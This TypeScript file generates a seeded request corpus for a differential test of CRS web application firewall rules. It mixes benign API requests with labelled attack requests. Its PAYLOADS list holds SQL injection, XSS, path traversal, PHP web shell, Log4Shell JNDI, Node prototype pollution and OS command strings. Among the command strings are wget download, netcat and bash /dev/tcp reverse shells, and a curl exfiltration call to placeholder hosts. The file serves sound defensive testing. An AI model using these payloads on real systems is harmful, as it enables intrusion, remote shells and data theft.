/**
 * A request corpus of our own for the CRS differential test (issue 17): benign API traffic in many shapes
 * (query strings, JSON bodies, forms, multipart, headers, cookies, paths) and attacks we wrote, in the
 * well-known forms that public payload lists also carry (SQL, XSS, path traversal, OS commands, PHP, Java,
 * Node.js, protocol attacks), placed in every part of a request and in several encodings. Deterministic: the
 * same seed gives the same requests.
 */
import type { RawRequest } from './oracle.ts';

export interface CorpusRequest extends RawRequest {
  readonly id: string;
  readonly label: 'benign' | 'attack';
  /** What shape (benign) or which family and where (attack): `json-body`, `sqli@query`. */
  readonly family: string;
  /**
   * For benign requests, the OpenAPI types of its arguments (by ARGS name) that a spec would guarantee:
   * what schema awareness may skip.
   */
  readonly typedArgs?: ReadonlyMap<string, 'number' | 'boolean' | 'enum' | 'format'>;
}

/** mulberry32: a small seeded generator, so the corpus is the same on every run. */
export function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const RESOURCES = ['users', 'orders', 'products', 'invoices', 'comments', 'projects', 'tickets', 'files'];
const SORT_FIELDS = ['created_at', '-created_at', 'name', '-updated_at', 'price', 'id'];
const STATUSES = ['active', 'pending', 'archived', 'draft', 'shipped', 'cancelled'];
const FIRST = ['Ada', 'Grace', 'José', 'Zoë', 'Łukasz', 'Mária', 'Chen', 'Aoife', "D'Arcy", 'Jean-Luc'];
const LAST = ["O'Brien", 'Müller', 'García', 'Nakamura', 'Smith-Jones', 'van der Berg', 'Nguyễn', 'Kowalski'];
const SEARCHES = [
  'blue running shoes',
  "O'Reilly books",
  'rock & roll',
  'C++ tutorial',
  'price under 100',
  "what's new?",
  'select a plan',
  'drop-down menu styling',
  '1/2 cup sugar',
  'email me at ada@example.com',
  '#summer-sale',
  '50% off',
  'café crème',
  '東京 ホテル',
  'naïve bayes',
  'where to buy',
  'update my address',
  'order by date',
  'union station tickets',
  'can I delete my account?',
  'script writing course',
  'how to use curl',
  'table for two',
  'java vs kotlin',
  'node version 24',
  'password reset not working',
  'select all that apply',
  'insert coin',
  'the "best" pizza',
  'A-B testing (split)',
  'fish & chips; peas',
  'size: 10 1/2',
  'temperature > 30',
  'path/to/file.txt',
  'from: London, to: Paris',
  'sleep better tips',
  'echo chamber',
  'version 1.2.3-beta',
];
const SENTENCES = [
  'Thanks for the quick delivery, everything arrived in one piece.',
  'Could you please update the shipping address to the one on file?',
  "I'd like to return the blue jacket (size M) — it doesn't fit.",
  'Meeting moved to 3:30pm; agenda: budget, hiring & roadmap.',
  'The report is attached. Let me know if anything is missing!',
  'Great product 5/5 would buy again :)',
  'Please select the option that fits best and submit the form.',
  'Our office is at 221B Baker Street, London NW1 6XE.',
  'Use the drop-down to choose a delivery date between Mon and Fri.',
  'Note: the union of both sets is larger than either one.',
  'Order #4521 was cancelled because the card was declined.',
  'Hello, world! This is a test message with some punctuation: ; , . ? !',
  'Price went from $19.99 to $14.99 (25% off) during the sale.',
  'Je voudrais réserver une table pour deux personnes ce soir.',
  'Das Paket wurde gestern an die Nachbarn übergeben.',
  'Markdown: **bold**, _italic_, `code`, and a [link](https://example.com/docs).',
  'Line one\nLine two\nLine three',
  'Call me at +1 (555) 010-2030 after 5 pm.',
  'I cannot log in since the last update; the page just reloads.',
  'Where can I find the terms and conditions?',
];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
  'axios/1.6.8',
  'Go-http-client/1.1',
  'MyApp/3.2.1 (Android 14; Pixel 8)',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
];
const LANGS = ['en-US,en;q=0.9', 'fr-FR,fr;q=0.8,en;q=0.5', 'de', 'ja-JP', 'es-419,es;q=0.9'];

/** The headers most clients send, with small variations. */
function baseHeaders(r: () => number, accept = 'application/json'): Array<[string, string]> {
  const h: Array<[string, string]> = [
    ['User-Agent', pick(r, USER_AGENTS)],
    ['Accept', accept],
  ];
  if (r() < 0.5) h.push(['Accept-Language', pick(r, LANGS)]);
  if (r() < 0.4) h.push(['Accept-Encoding', 'gzip, deflate, br']);
  if (r() < 0.4) h.push(['Authorization', `Bearer ${jwtLike(r)}`]);
  if (r() < 0.3) h.push(['X-Request-Id', uuid(r)]);
  if (r() < 0.2) h.push(['If-None-Match', `W/"${hex(r, 16)}"`]);
  if (r() < 0.2)
    h.push(['Referer', `https://app.example.com/${pick(r, RESOURCES)}?tab=${pick(r, STATUSES)}`]);
  if (r() < 0.3) h.push(['Cookie', cookieHeader(r)]);
  if (r() < 0.1) h.push(['Origin', 'https://app.example.com']);
  if (r() < 0.1) h.push(['Cache-Control', 'no-cache']);
  return h;
}

export function pick<T>(r: () => number, list: readonly T[]): T {
  return list[Math.floor(r() * list.length)];
}

function int(r: () => number, max: number): number {
  return 1 + Math.floor(r() * max);
}

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
}

function uuid(r: () => number): string {
  return `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`;
}

function b64url(r: () => number, n: number): string {
  const a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  let s = '';
  for (let i = 0; i < n; i++) s += a[Math.floor(r() * a.length)];
  return s;
}

function jwtLike(r: () => number): string {
  const header = Buffer.from('{"alg":"RS256","typ":"JWT","kid":"k1"}').toString('base64url');
  const payload = Buffer.from(
    JSON.stringify({ sub: uuid(r), scope: 'read write', exp: 1_900_000_000 + int(r, 10000) }),
  ).toString('base64url');
  return `${header}.${payload}.${b64url(r, 86)}`;
}

function isoDate(r: () => number): string {
  return new Date(
    Date.UTC(2020 + int(r, 6), int(r, 12) - 1, int(r, 28), int(r, 23), int(r, 59)),
  ).toISOString();
}

function cookieHeader(r: () => number): string {
  const parts = [`session=${b64url(r, 32)}`];
  if (r() < 0.5) parts.push(`csrftoken=${hex(r, 32)}`);
  if (r() < 0.4) parts.push(`theme=${pick(r, ['dark', 'light'])}`);
  if (r() < 0.3) parts.push(`_ga=GA1.2.${int(r, 999999999)}.${int(r, 1999999999)}`);
  if (r() < 0.2) parts.push(`consent=${encodeURIComponent('{"ads":false,"stats":true}')}`);
  if (r() < 0.2) parts.push(`lang=${pick(r, ['en', 'fr', 'de'])}`);
  return parts.join('; ');
}

/** Query-string encoding as browsers and clients write it: percent-encoding, sometimes `+` for spaces. */
function q(r: () => number, value: string): string {
  const e = encodeURIComponent(value);
  return r() < 0.3 ? e.replace(/%20/g, '+') : e;
}

function json(value: unknown): Buffer {
  return Buffer.from(JSON.stringify(value));
}

function form(pairs: ReadonlyArray<readonly [string, string]>): Buffer {
  return Buffer.from(
    pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v).replace(/%20/g, '+')}`).join('&'),
  );
}

export function multipart(
  boundary: string,
  fields: ReadonlyArray<readonly [string, string, string?]>,
): Buffer {
  const parts = fields.map(([name, value, filename]) => {
    const disp = `form-data; name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}`;
    const type = filename === undefined ? '' : 'Content-Type: text/plain\r\n';
    return `--${boundary}\r\nContent-Disposition: ${disp}\r\n${type}\r\n${value}\r\n`;
  });
  return Buffer.from(`${parts.join('')}--${boundary}--\r\n`);
}

type Typed = Map<string, 'number' | 'boolean' | 'enum' | 'format'>;

/** One benign request of a randomly chosen shape (13 shapes). */
function benign(r: () => number, n: number): Omit<CorpusRequest, 'id' | 'label'> {
  const res = pick(r, RESOURCES);
  const shape = Math.floor(r() * 13);
  const typed: Typed = new Map();
  switch (shape) {
    case 0: {
      const page = int(r, 50);
      const limit = pick(r, [10, 20, 50, 100]);
      const sort = pick(r, SORT_FIELDS);
      typed.set('page', 'number').set('limit', 'number').set('sort', 'enum');
      return {
        family: 'list',
        method: 'GET',
        uri: `/api/v1/${res}?page=${page}&limit=${limit}&sort=${q(r, sort)}`,
        headers: baseHeaders(r),
        typedArgs: typed,
      };
    }
    case 1: {
      const id = r() < 0.5 ? String(int(r, 99999)) : uuid(r);
      return { family: 'get-by-id', method: 'GET', uri: `/api/v1/${res}/${id}`, headers: baseHeaders(r) };
    }
    case 2: {
      const term = pick(r, SEARCHES);
      return {
        family: 'search',
        method: 'GET',
        uri: `/api/v1/search?q=${q(r, term)}&type=${res}`,
        headers: baseHeaders(r),
        typedArgs: typed.set('type', 'enum'),
      };
    }
    case 3: {
      const from = isoDate(r);
      const to = isoDate(r);
      typed.set('filter[status]', 'enum').set('from', 'format').set('to', 'format');
      return {
        family: 'filter',
        method: 'GET',
        uri: `/api/v1/${res}?filter%5Bstatus%5D=${pick(r, STATUSES)}&from=${q(r, from)}&to=${q(r, to)}&fields=id,name,created_at&include=author`,
        headers: baseHeaders(r),
        typedArgs: typed,
      };
    }
    case 4: {
      const body = {
        name: `${pick(r, FIRST)} ${pick(r, LAST)}`,
        email: `user${int(r, 9999)}@example.com`,
        age: int(r, 90),
        newsletter: r() < 0.5,
        address: {
          street: `${int(r, 300)} Main St.`,
          city: pick(r, ['Berlin', 'Paris', 'São Paulo', 'Kyoto']),
        },
        tags: [pick(r, STATUSES), pick(r, STATUSES)],
        website: r() < 0.5 ? `https://www.example.com/~user${int(r, 99)}/` : null,
      };
      typed.set('json.age', 'number').set('json.newsletter', 'boolean');
      return {
        family: 'json-profile',
        method: pick(r, ['POST', 'PUT', 'PATCH']),
        uri: `/api/v1/users${r() < 0.5 ? '' : `/${int(r, 9999)}`}`,
        headers: [
          ...baseHeaders(r),
          ['Content-Type', pick(r, ['application/json', 'application/json; charset=utf-8'])],
        ],
        body: json(body),
        typedArgs: typed,
      };
    }
    case 5: {
      const items = Array.from({ length: int(r, 4) }, () => ({
        sku: `SKU-${hex(r, 6).toUpperCase()}`,
        qty: int(r, 5),
        price: Math.round(r() * 10000) / 100,
      }));
      const body = {
        orderId: uuid(r),
        createdAt: isoDate(r),
        items,
        currency: pick(r, ['EUR', 'USD', 'JPY']),
        note: r() < 0.5 ? pick(r, SENTENCES) : '',
        coupon: r() < 0.3 ? 'SUMMER-2024' : null,
      };
      typed.set('json.orderId', 'format').set('json.createdAt', 'format').set('json.currency', 'enum');
      return {
        family: 'json-order',
        method: 'POST',
        uri: '/api/v1/orders',
        headers: [...baseHeaders(r), ['Content-Type', 'application/json']],
        body: json(body),
        typedArgs: typed,
      };
    }
    case 6: {
      const body = {
        text: pick(r, SENTENCES),
        rating: int(r, 5),
        author: { id: int(r, 99999), display: `${pick(r, FIRST)} ${pick(r, LAST)}` },
        attachments: r() < 0.3 ? [{ name: 'photo.jpg', size: int(r, 900000) }] : [],
      };
      typed.set('json.rating', 'number');
      return {
        family: 'json-comment',
        method: 'POST',
        uri: `/api/v1/${res}/${int(r, 999)}/comments`,
        headers: [...baseHeaders(r), ['Content-Type', 'application/json']],
        body: json(body),
        typedArgs: typed,
      };
    }
    case 7: {
      const pairs: Array<[string, string]> = [
        ['username', `${pick(r, FIRST).toLowerCase()}${int(r, 99)}`],
        ['password', `${b64url(r, 10)}!${int(r, 99)}#`],
        ['remember', r() < 0.5 ? 'on' : 'off'],
      ];
      return {
        family: 'form-login',
        method: 'POST',
        uri: '/login',
        headers: [
          ...baseHeaders(r, 'text/html,application/xhtml+xml'),
          ['Content-Type', 'application/x-www-form-urlencoded'],
        ],
        body: form(pairs),
        typedArgs: typed.set('remember', 'enum'),
      };
    }
    case 8: {
      const pairs: Array<[string, string]> = [
        ['grant_type', 'client_credentials'],
        ['client_id', `app-${hex(r, 8)}`],
        ['scope', pick(r, ['read', 'read write', 'orders:read users:write'])],
      ];
      return {
        family: 'form-oauth',
        method: 'POST',
        uri: '/oauth/token',
        headers: [...baseHeaders(r), ['Content-Type', 'application/x-www-form-urlencoded']],
        body: form(pairs),
        typedArgs: typed.set('grant_type', 'enum'),
      };
    }
    case 9: {
      const boundary = `----form${hex(r, 16)}`;
      return {
        family: 'multipart',
        method: 'POST',
        uri: `/api/v1/files`,
        headers: [...baseHeaders(r), ['Content-Type', `multipart/form-data; boundary=${boundary}`]],
        body: multipart(boundary, [
          ['title', pick(r, SENTENCES).slice(0, 40)],
          ['file', `id,name,amount\n1,${pick(r, FIRST)},${int(r, 500)}\n`, `report-${int(r, 99)}.csv`],
        ]),
      };
    }
    case 10: {
      const body = {
        settings: {
          theme: pick(r, ['dark', 'light']),
          notifications: { email: r() < 0.5, push: r() < 0.5, digest: pick(r, ['daily', 'weekly']) },
          timezone: pick(r, ['Europe/Berlin', 'America/New_York', 'Asia/Tokyo']),
          shortcuts: ['ctrl+s', 'ctrl+shift+p'],
        },
        values: Array.from({ length: int(r, 6) }, () => Math.round(r() * 1000)),
        markdown: '## Notes\n- item one\n- item *two*\n\n> quoted',
      };
      return {
        family: 'json-settings',
        method: 'PATCH',
        uri: `/api/v1/users/${uuid(r)}/settings`,
        headers: [...baseHeaders(r), ['Content-Type', 'application/json']],
        body: json(body),
      };
    }
    case 11: {
      // A devops API whose enums name shell modes: harmless values a spec pins down, which CRS rules read
      // as commands (what schema awareness is for).
      const mode = pick(r, ['tail -f', 'ls -l', 'sh -c', 'bin/sh', 'head']);
      if (r() < 0.5) {
        typed.set('mode', 'enum').set('lines', 'number');
        return {
          family: 'ops-query',
          method: 'GET',
          uri: `/api/v1/jobs/${int(r, 999)}/logs?mode=${q(r, mode)}&lines=${int(r, 500)}`,
          headers: baseHeaders(r),
          typedArgs: typed,
        };
      }
      typed.set('json.shell', 'enum').set('json.timeoutSeconds', 'number');
      return {
        family: 'ops-json',
        method: 'POST',
        uri: '/api/v1/jobs',
        headers: [...baseHeaders(r), ['Content-Type', 'application/json']],
        body: json({
          name: `build-${int(r, 99)}`,
          shell: mode,
          script: 'npm ci && npm test',
          timeoutSeconds: int(r, 600),
        }),
        typedArgs: typed,
      };
    }
    default: {
      const method = pick(r, ['DELETE', 'HEAD', 'OPTIONS', 'GET']);
      return {
        family: `method-${method.toLowerCase()}`,
        method,
        uri: `/api/v2/${res}/${int(r, 9999)}${n % 3 === 0 ? '?dryRun=true' : ''}`,
        headers: baseHeaders(r),
        typedArgs: n % 3 === 0 ? typed.set('dryRun', 'boolean') : undefined,
      };
    }
  }
}

/** Attack payloads by family, written for this corpus in the classic forms of public payload lists. */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "' OR '1'='1",
    "1' OR 1=1-- -",
    '1 UNION SELECT username, password FROM users--',
    "' UNION ALL SELECT NULL,NULL,NULL--",
    '1; DROP TABLE accounts',
    "admin'--",
    "1' AND SLEEP(5)#",
    '1 AND 1=CONVERT(int,@@version)',
    "1' ORDER BY 3--+",
    "'; EXEC xp_cmdshell('dir')--",
    '" or ""="',
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    '1)) OR benchmark(10000000,MD5(1))#',
    "1' waitfor delay '0:0:5'--",
    '-1 UNION SELECT 1,group_concat(table_name) FROM information_schema.tables',
    "x' AND pg_sleep(5)--",
    "1'/**/UnIoN/**/SeLeCt/**/1,2,3--",
    "' having 1=1--",
    'SELECT * FROM users WHERE id = 1',
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
    '1 or sleep(3)',
    "';shutdown--",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(document.domain)>',
    'javascript:alert(1)',
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    '<a href="#" onmouseover="alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    "'-alert(1)-'",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<div style="background:url(javascript:alert(1))">',
    '<input autofocus onfocus=alert(1)>',
    '<ScRiPt>prompt`1`</sCrIpT>',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<marquee onstart=confirm(1)>',
    '<link rel=import href=//evil.example/x>',
    'document.cookie',
  ],
  lfi: [
    '../../../../etc/passwd',
    '....//....//....//etc/passwd',
    '/etc/shadow',
    '..\\..\\..\\windows\\win.ini',
    'file:///etc/passwd',
    '/proc/self/environ',
    '../../../../../../boot.ini',
    '.htaccess',
    '../WEB-INF/web.xml',
    '/var/log/apache2/access.log',
  ],
  rce: [
    '; cat /etc/passwd',
    '| id',
    '$(whoami)',
    '`uname -a`',
    '&& ping -c 4 127.0.0.1',
    ';wget http://198.51.100.7/x.sh -O /tmp/x.sh',
    '| nc -e /bin/sh 198.51.100.7 4444',
    '; powershell -enc SQBFAFgA',
    'cmd.exe /c dir',
    ';bash -i >& /dev/tcp/198.51.100.7/8080 0>&1',
    '; ls -la /',
    '|| curl http://198.51.100.7/$(hostname)',
    ';${IFS}cat${IFS}/etc/passwd',
  ],
  php: [
    "<?php system($_GET['c']); ?>",
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'phpinfo();',
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
    'expect://id',
    'file_put_contents("x.php", $_POST["a"])',
    'base64_decode($_REQUEST["x"])',
  ],
  java: [
    '${jndi:ldap://198.51.100.7/a}',
    '${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}',
    'java.lang.Runtime.getRuntime().exec("id")',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    'java.lang.ProcessBuilder',
  ],
  node: [
    "require('child_process').exec('id')",
    'process.mainModule.require("fs").readFileSync("/etc/passwd")',
    '__proto__[isAdmin]=true',
    "constructor.prototype.polluted='yes'",
    '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()',
  ],
  rfi: ['http://198.51.100.7/shell.txt?', 'https://203.0.113.9/inc.php?x=', 'ftp://198.51.100.7/payload.txt'],
  protocol: ['%0d%0aSet-Cookie:%20admin=1', 'x%0d%0aLocation:%20https://evil.example', 'a\u0000b'],
  misc: [
    '{{7*7}}',
    '{"$ne": null}',
    '{"$where": "sleep(100)"}',
    '<!--#exec cmd="ls" -->',
    '(|(uid=*)(cn=*))',
  ],
};

type Where =
  | 'query'
  | 'query-name'
  | 'json'
  | 'json-key'
  | 'form'
  | 'cookie'
  | 'user-agent'
  | 'referer'
  | 'header'
  | 'path'
  | 'multipart';
const WHERES: readonly Where[] = [
  'query',
  'query',
  'query',
  'json',
  'json',
  'json-key',
  'form',
  'cookie',
  'user-agent',
  'referer',
  'header',
  'path',
  'multipart',
  'query-name',
];

/** Encodes a payload for the request target: percent-encoding, sometimes double, sometimes raw-ish. */
function encodeQuery(r: () => number, payload: string): string {
  if (/%[0-9a-f]{2}/i.test(payload)) return payload; // already written for the URI
  const x = r();
  if (x < 0.6) return q(r, payload);
  if (x < 0.75) return encodeURIComponent(encodeURIComponent(payload));
  // Minimal encoding: only what cannot stand in a request line.
  return payload.replace(/[\s%#&+\u0000-\u001f\u007f-\uffff]/g, (c) => encodeURIComponent(c));
}

function attack(
  r: () => number,
  family: string,
  payload: string,
  where: Where,
): Omit<CorpusRequest, 'id' | 'label'> {
  const res = pick(r, RESOURCES);
  const h = baseHeaders(r);
  const f = `${family}@${where}`;
  const raw = payload.includes('%')
    ? decodeURIComponent(payload.replace(/%(?![0-9a-f]{2})/gi, '%25'))
    : payload;
  switch (where) {
    case 'query':
      return {
        family: f,
        method: 'GET',
        uri: `/api/v1/${res}?q=${encodeQuery(r, payload)}&page=1`,
        headers: h,
      };
    case 'query-name':
      return { family: f, method: 'GET', uri: `/api/v1/${res}?${encodeQuery(r, payload)}=1`, headers: h };
    case 'path':
      return { family: f, method: 'GET', uri: `/api/v1/${res}/${encodeURIComponent(raw)}`, headers: h };
    case 'json':
      return {
        family: f,
        method: 'POST',
        uri: `/api/v1/${res}`,
        headers: [...h, ['Content-Type', 'application/json']],
        body: json({ name: pick(r, FIRST), comment: raw, count: int(r, 9) }),
      };
    case 'json-key':
      return {
        family: f,
        method: 'POST',
        uri: `/api/v1/${res}`,
        headers: [...h, ['Content-Type', 'application/json']],
        body: json({ id: int(r, 99), [raw]: 'x' }),
      };
    case 'form':
      return {
        family: f,
        method: 'POST',
        uri: '/search',
        headers: [...h, ['Content-Type', 'application/x-www-form-urlencoded']],
        body: form([
          ['term', raw],
          ['page', '1'],
        ]),
      };
    case 'multipart': {
      const boundary = `----x${hex(r, 12)}`;
      return {
        family: f,
        method: 'POST',
        uri: '/upload',
        headers: [...h, ['Content-Type', `multipart/form-data; boundary=${boundary}`]],
        body: multipart(boundary, [['description', raw]]),
      };
    }
    case 'cookie':
      return {
        family: f,
        method: 'GET',
        uri: `/api/v1/${res}`,
        headers: [
          ...h.filter(([n]) => n !== 'Cookie'),
          ['Cookie', `session=${b64url(r, 24)}; pref=${encodeURIComponent(raw)}`],
        ],
      };
    case 'user-agent':
      return {
        family: f,
        method: 'GET',
        uri: `/api/v1/${res}`,
        headers: [['User-Agent', headerSafe(raw)], ...h.filter(([n]) => n !== 'User-Agent')],
      };
    case 'referer':
      return {
        family: f,
        method: 'GET',
        uri: `/api/v1/${res}`,
        headers: [
          ...h.filter(([n]) => n !== 'Referer'),
          ['Referer', `https://app.example.com/?next=${headerSafe(raw)}`],
        ],
      };
    case 'header':
      return {
        family: f,
        method: 'GET',
        uri: `/api/v1/${res}`,
        headers: [...h, ['X-Custom-Filter', headerSafe(raw)]],
      };
  }
}

/** A header value cannot carry CR, LF or NUL on the wire: such payloads are percent-encoded there. */
function headerSafe(value: string): string {
  return value
    .replace(/[\r\n\u0000]/g, (c) => encodeURIComponent(c))
    .replace(/[^\u0020-\u007e\t]/g, (c) => encodeURIComponent(c));
}

/** Requests that test the protocol rules (methods, content types, missing headers) with benign content. */
function protocolOddities(r: () => number): Array<Omit<CorpusRequest, 'id'>> {
  return [
    {
      label: 'attack',
      family: 'protocol-no-ua',
      method: 'GET',
      uri: '/api/v1/users',
      headers: [['Accept', '*/*']],
    },
    {
      label: 'attack',
      family: 'protocol-no-accept',
      method: 'GET',
      uri: '/api/v1/users',
      headers: [['User-Agent', 'curl/8.5.0']],
    },
    {
      label: 'attack',
      family: 'protocol-scanner-ua',
      method: 'GET',
      uri: '/',
      headers: [
        ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
        ['Accept', '*/*'],
      ],
    },
    {
      label: 'attack',
      family: 'protocol-scanner-ua',
      method: 'GET',
      uri: '/',
      headers: [
        ['User-Agent', 'Mozilla/5.00 (Nikto/2.1.6)'],
        ['Accept', '*/*'],
      ],
    },
    {
      label: 'attack',
      family: 'protocol-numeric-host',
      method: 'GET',
      uri: '/',
      headers: [
        ['Host', '10.0.0.1'],
        ['User-Agent', 'curl/8.5.0'],
        ['Accept', '*/*'],
      ],
    },
    {
      label: 'attack',
      family: 'protocol-content-type',
      method: 'POST',
      uri: '/api/v1/users',
      headers: [...baseHeaders(r), ['Content-Type', 'text/x-evil']],
      body: Buffer.from('hello'),
    },
    { label: 'attack', family: 'protocol-method', method: 'TRACE', uri: '/', headers: baseHeaders(r) },
    { label: 'attack', family: 'protocol-method', method: 'PROPFIND', uri: '/', headers: baseHeaders(r) },
    {
      label: 'attack',
      family: 'protocol-range',
      method: 'GET',
      uri: '/files/a.bin',
      headers: [
        ...baseHeaders(r),
        [
          'Range',
          'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25,26-27,28-29,30-31,32-33,34-35,36-37,38-39,40-41,42-43,44-45,46-47,48-49,50-51,52-53,54-55,56-57,58-59,60-61,62-63,64-65',
        ],
      ],
    },
    {
      label: 'attack',
      family: 'protocol-ext',
      method: 'GET',
      uri: '/backup/db.sql',
      headers: baseHeaders(r),
    },
    { label: 'attack', family: 'protocol-ext', method: 'GET', uri: '/config/.env', headers: baseHeaders(r) },
    {
      label: 'attack',
      family: 'protocol-bad-urlenc',
      method: 'GET',
      uri: '/api/v1/search?q=%zz%4',
      headers: baseHeaders(r),
    },
    {
      label: 'attack',
      family: 'protocol-utf8',
      method: 'GET',
      uri: '/api/v1/search?q=%c0%af',
      headers: baseHeaders(r),
    },
    {
      label: 'attack',
      family: 'protocol-null',
      method: 'GET',
      uri: '/api/v1/search?q=a%00b',
      headers: baseHeaders(r),
    },
    {
      label: 'attack',
      family: 'protocol-dup-args',
      method: 'GET',
      uri: '/api/v1/search?id=1&id=2&id=3',
      headers: baseHeaders(r),
    },
    {
      label: 'attack',
      family: 'protocol-body-get',
      method: 'GET',
      uri: '/api/v1/users',
      headers: [...baseHeaders(r), ['Content-Type', 'application/json']],
      body: json({ a: 1 }),
    },
    {
      label: 'attack',
      family: 'protocol-charset',
      method: 'POST',
      uri: '/api/v1/users',
      headers: [...baseHeaders(r), ['Content-Type', 'application/json; charset=utf-7']],
      body: json({ a: 1 }),
    },
    {
      label: 'attack',
      family: 'protocol-long-arg',
      method: 'GET',
      uri: '/api/v1/users?x=' + 'A'.repeat(500),
      headers: baseHeaders(r),
    },
  ];
}

/**
 * The corpus: `benignCount` benign requests and every payload of every family placed in several parts of
 * a request (`placements` each), plus the protocol oddities.
 */
export function generateCorpus(
  options: { seed?: number; benignCount?: number; placements?: number } = {},
): CorpusRequest[] {
  const r = random(options.seed ?? 17);
  const out: CorpusRequest[] = [];
  const benignCount = options.benignCount ?? 600;
  for (let i = 0; i < benignCount; i++) out.push({ id: `b${i}`, label: 'benign', ...benign(r, i) });
  const placements = options.placements ?? 4;
  let a = 0;
  for (const [family, payloads] of Object.entries(PAYLOADS)) {
    for (const payload of payloads) {
      const used = new Set<Where>();
      for (let k = 0; k < placements; k++) {
        let where = pick(r, WHERES);
        for (let t = 0; t < 5 && used.has(where); t++) where = pick(r, WHERES);
        used.add(where);
        out.push({ id: `a${a++}`, label: 'attack', ...attack(r, family, payload, where) });
      }
    }
  }
  for (const p of protocolOddities(r)) out.push({ id: `p${a++}`, ...p });
  return out;
}
